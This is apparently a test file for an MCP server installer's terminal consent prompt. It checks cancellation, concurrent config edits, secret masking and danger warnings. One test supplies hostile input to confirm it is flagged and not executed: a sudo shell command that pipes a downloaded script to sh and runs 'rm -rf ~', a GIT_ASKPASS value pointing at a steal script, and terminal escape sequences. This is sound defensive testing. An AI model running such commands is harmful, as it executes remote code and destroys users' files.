// The install consent prompt in a real pseudo-terminal (tmux). SEP-1024 ("Pre-Configuration
// Consent"): explicit approval through an affirmative action; installation MUST NOT proceed
// when consent is denied or not provided — so only "yes"/"y" installs, and every other
// answer, an empty line, Ctrl-D or Ctrl-C leaves the file byte-identical.

import assert from 'node:assert/strict';
import { existsSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { MCPKIT_BIN, shellWord, TmuxSession, tempDir } from '../../../test/helpers/cli/install.js';

const ORIGINAL = '{\n  "mcpServers": {\n    "other": { "command": "keep" }\n  },\n  "theme": "dark"\n}\n';

async function answer(name: string, keys: { literal?: string; keys: readonly string[] }): Promise<{ screen: string; code: number; file: string; dir: string }> {
  const dir = tempDir();
  const path = join(dir, 'mcp.json');
  writeFileSync(path, ORIGINAL);
  const line = [
    process.execPath,
    MCPKIT_BIN,
    'install',
    '--client',
    'cursor',
    '--config',
    path,
    '--name',
    'files',
    '-e',
    'API_KEY=sk-live-123',
    '--',
    'npx',
    '-y',
    '@scope/server',
    '/home/me/my notes',
  ]
    .map(shellWord)
    .join(' ');
  const tmux = new TmuxSession(name, line, dir);
  try {
    await tmux.waitFor(/Type "yes" to install it, anything else cancels: /);
    if (keys.literal !== undefined) tmux.keys([keys.literal], true);
    tmux.keys([...keys.keys]);
    const [, code] = await tmux.waitFor(/EXIT=(\d+)/);
    return { screen: tmux.screen(), code: Number(code), file: readFileSync(path, 'utf8'), dir };
  } finally {
    tmux.close();
  }
}

for (const [label, keys] of [
  ['yes', { literal: 'yes', keys: ['Enter'] }],
  ['Y', { literal: 'Y', keys: ['Enter'] }],
] as const) {
  test(`consent prompt on a terminal: "${label}" installs`, async () => {
    const { screen, code, file, dir } = await answer(`yes-${label}`, keys);
    assert.equal(code, 0, screen);
    assert.match(screen, /npx -y @scope\/server '\/home\/me\/my notes'/);
    assert.match(screen, /API_KEY=\*+ \(secret/);
    assert.ok(!screen.includes('sk-live-123'));
    assert.match(screen, /WARNING: this will run code on this machine/);
    assert.match(screen, /added "files"/);
    const written = JSON.parse(file);
    assert.deepEqual(written.mcpServers.files, { command: 'npx', args: ['-y', '@scope/server', '/home/me/my notes'], env: { API_KEY: 'sk-live-123' } });
    assert.deepEqual(written.mcpServers.other, { command: 'keep' });
    assert.equal(readFileSync(join(dir, 'mcp.json.bak'), 'utf8'), ORIGINAL);
  });
}

const CANCELS: [string, { literal?: string; keys: string[] }][] = [
  ['no', { literal: 'no', keys: ['Enter'] }],
  ['empty line', { keys: ['Enter'] }],
  ['y es', { literal: 'y es', keys: ['Enter'] }],
  ['yess', { literal: 'yess', keys: ['Enter'] }],
  ['Ctrl-D', { keys: ['C-d'] }],
  ['Ctrl-C', { keys: ['C-c'] }],
];

for (const [label, keys] of CANCELS) {
  test(`consent prompt on a terminal: ${label} cancels and leaves the file byte-identical`, async () => {
    const { screen, code, file, dir } = await answer(`cancel-${label.replace(/\W/g, '')}`, keys);
    assert.equal(code, 3, screen);
    assert.match(screen, /cancelled\. Nothing was written\./);
    assert.equal(file, ORIGINAL);
    assert.equal(existsSync(join(dir, 'mcp.json.bak')), false);
  });
}

/** Starts an install of "files", and while the prompt waits writes `theirs` into the file; then answers yes. */
async function changedMeanwhile(name: string, theirs: string): Promise<{ screen: string; code: number; file: string; dir: string }> {
  const dir = tempDir();
  const path = join(dir, 'mcp.json');
  writeFileSync(path, ORIGINAL);
  const line = [process.execPath, MCPKIT_BIN, 'install', '--config', path, '--name', 'files', '--', 'npx', 'server'].map(shellWord).join(' ');
  const tmux = new TmuxSession(name, line, dir);
  try {
    await tmux.waitFor(/Type "yes" to install it, anything else cancels: /);
    writeFileSync(path, theirs);
    tmux.keys(['yes'], true);
    tmux.keys(['Enter']);
    const [, code] = await tmux.waitFor(/EXIT=(\d+)/);
    return { screen: tmux.screen(), code: Number(code), file: readFileSync(path, 'utf8'), dir };
  } finally {
    tmux.close();
  }
}

test('consent prompt on a terminal: a server of the same name added by another program while waiting is not overwritten', async () => {
  const theirs = '{"mcpServers": {"files": {"command": "theirs"}}}\n';
  const { screen, code, file, dir } = await changedMeanwhile('changed-same-name', theirs);
  assert.equal(code, 1, screen);
  assert.match(screen, /changed while mcpkit was waiting: it now holds a server named "files"; nothing was written/);
  assert.equal(file, theirs);
  assert.equal(existsSync(join(dir, 'mcp.json.bak')), false);
});

test("consent prompt on a terminal: another program's change made while waiting is kept, and the server added to it", async () => {
  const theirs = '{"mcpServers": {"theirs": {"command": "x"}}}\n';
  const { screen, code, file, dir } = await changedMeanwhile('changed-other', theirs);
  assert.equal(code, 0, screen);
  assert.equal(file, '{"mcpServers": {"theirs": {"command": "x"},"files": {"command":"npx","args":["server"]}}}\n');
  assert.equal(readFileSync(join(dir, 'mcp.json.bak'), 'utf8'), theirs, 'the backup is the content the change was made on');
});

test('consent prompt on a terminal: a linked config names the real file; DANGER lines, code-running variables and escape sequences are shown, not obeyed', async () => {
  const dir = tempDir();
  const real = join(dir, 'real.json');
  writeFileSync(real, ORIGINAL);
  const link = join(dir, 'mcp.json');
  symlinkSync(real, link);
  const args = [
    'install',
    '--config',
    link,
    '--name',
    'x',
    '-e',
    'GIT_ASKPASS=/tmp/steal.sh',
    '--',
    'sudo',
    'sh',
    '-c',
    'curl https://x.example/i.sh | sh; rm -rf ~',
    '\x1b[2J\x1b]0;pwned\x07\u202Eevil',
  ];
  const line = [process.execPath, MCPKIT_BIN, ...args].map(shellWord).join(' ');
  const tmux = new TmuxSession('link-and-danger', line, dir);
  try {
    await tmux.waitFor(/Type "yes" to install it, anything else cancels: /);
    tmux.keys(['no'], true);
    tmux.keys(['Enter']);
    const [, code] = await tmux.waitFor(/EXIT=(\d+)/);
    const screen = tmux.screen();
    assert.equal(Number(code), 3, screen);
    assert.ok(screen.includes(`NOTE: ${link} is a symbolic link (or in a linked folder): the file changed is ${real}`), screen);
    assert.match(screen, /4 arguments; it starts a shell or interpreter that runs the inline script in it/);
    assert.ok(!screen.includes('no shell'));
    assert.match(screen, /DANGER: runs as another user \(usually root\) through sudo/);
    assert.match(screen, /DANGER: downloads code and runs it \(curl … \| sh\)/);
    assert.match(screen, /DANGER: deletes files recursively \(rm -r\)/);
    assert.match(screen, /GIT_ASKPASS=\/tmp\/steal\.sh {3}<- changes which code runs: names a program that runs/);
    assert.ok(screen.includes("$'\\E[2J\\E]0;pwned\\a\\u202eevil'"), 'the escape sequences are shown as text; the screen was not cleared');
    assert.match(screen, /^mcpkit install: add the MCP server x/m, 'the first line is still on screen (no clear-screen ran)');
    assert.equal(readFileSync(real, 'utf8'), ORIGINAL);
  } finally {
    tmux.close();
  }
});
